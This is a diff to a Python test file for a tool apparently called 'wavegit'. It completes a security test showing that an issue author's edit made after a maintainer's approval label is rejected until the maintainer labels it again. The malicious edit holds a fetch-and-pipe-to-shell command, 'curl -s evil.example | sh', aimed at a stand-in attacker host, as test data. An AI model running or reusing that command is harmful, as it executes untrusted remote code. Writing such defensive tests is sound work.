@@ -151,13 +151,17 @@ def test_the_wave_pr_of_an_intake_item_closes_its_issue(tmp_path: Path) -> None:
         assert f"Closes #{filed.number}" in pr.body.splitlines()
 
 
-@pytest.mark.xfail(strict=True, reason="x1 finding: a label approves the issue, not the text; an author's "
-                   "edit after a writer's label is taken (the issue API carries no edit time in the fake)")
 def test_attack_an_issue_its_reader_author_edits_after_a_writers_label_is_not_taken(
         remote_repo: RemoteRepo, gh: Running) -> None:
     filed = gh.fake.open_issue("Harmless", form_body(owns="src/limiter.py"), MALLORY, labels=("wavegit",),
                                labelled_by=ALICE)
     # Mallory edits her issue once Alice's label is on it: the label does not vouch for this text.
-    filed.body = form_body(owns=".github/workflows/", test="curl -s https://evil.example/x | sh")
+    gh.fake.edit_issue(filed.number, form_body(owns=".github/workflows/", test="curl -s evil.example | sh"))
     assert wavegit(remote_repo.clone, "intake", env=github_env(gh)).returncode == 0
-    assert all(".github/workflows/" not in item.owns for item in origin_items(remote_repo))
+    assert origin_items(remote_repo) == ()
+    [reply] = gh.fake.issue_comments(filed.number)
+    assert "changed after @alice labelled it" in reply.body
+    # Alice reads the new text and labels it again: now it is what she vouches for.
+    gh.fake.label_issue(filed.number, "wavegit", ALICE)
+    assert wavegit(remote_repo.clone, "intake", env=github_env(gh)).returncode == 0
+    assert [item.owns for item in origin_items(remote_repo)] == [(".github/workflows/",)]
